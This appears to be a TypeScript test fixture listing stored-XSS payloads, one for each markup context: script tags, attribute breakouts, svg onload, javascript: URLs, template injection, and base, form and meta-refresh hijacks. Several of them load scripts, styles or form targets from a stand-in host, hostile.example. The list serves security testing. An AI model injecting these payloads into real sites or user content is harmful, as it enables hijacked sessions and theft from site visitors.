// What somebody writes where a text is expected, so that it runs where it is read (stored XSS).

/** Each says so by `window.ran`, by a dialog, or by asking this host. */
const hostileHost = 'https://hostile.example'

/** One for each place that markup has: content, attributes of both quotes and none, addresses, styles, frames, comments. */
export const hostileTexts: readonly string[] = [
  `<script>window.ran=1;alert(1)</script>`,
  `<script src="${hostileHost}/a.js"></script>`,
  `"><img src=x onerror="window.ran=1;alert(1)">`,
  `'><svg/onload=window.ran=1>`,
  `" autofocus onfocus="window.ran=1" x="`,
  `' onmouseover='window.ran=1' style='position:fixed;inset:0`,
  `</title></textarea></style></script><img src=${hostileHost}/t.png>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<style>@import '${hostileHost}/s.css'</style><link rel=stylesheet href=${hostileHost}/l.css>`,
  `<base href="${hostileHost}/"><form action="${hostileHost}/f"><button>`,
  `<meta http-equiv=refresh content="0;url=${hostileHost}/m">`,
  `javascript:window.ran=1//https://a.example`,
  `https://a.example/"onclick="window.ran=1`,
  `@anna"onclick=window.ran=1 #tag"><svg/onload=window.ran=1>`,
  `&#60;script&#62;window.ran=1&#60;/script&#62;`,
  `]]><script>window.ran=1</script><!--`,
  '{{constructor.constructor("window.ran=1")()}}${window.ran=1}',
  `\u202e<script>window.ran=1</script>\u2028\u0000`,
]
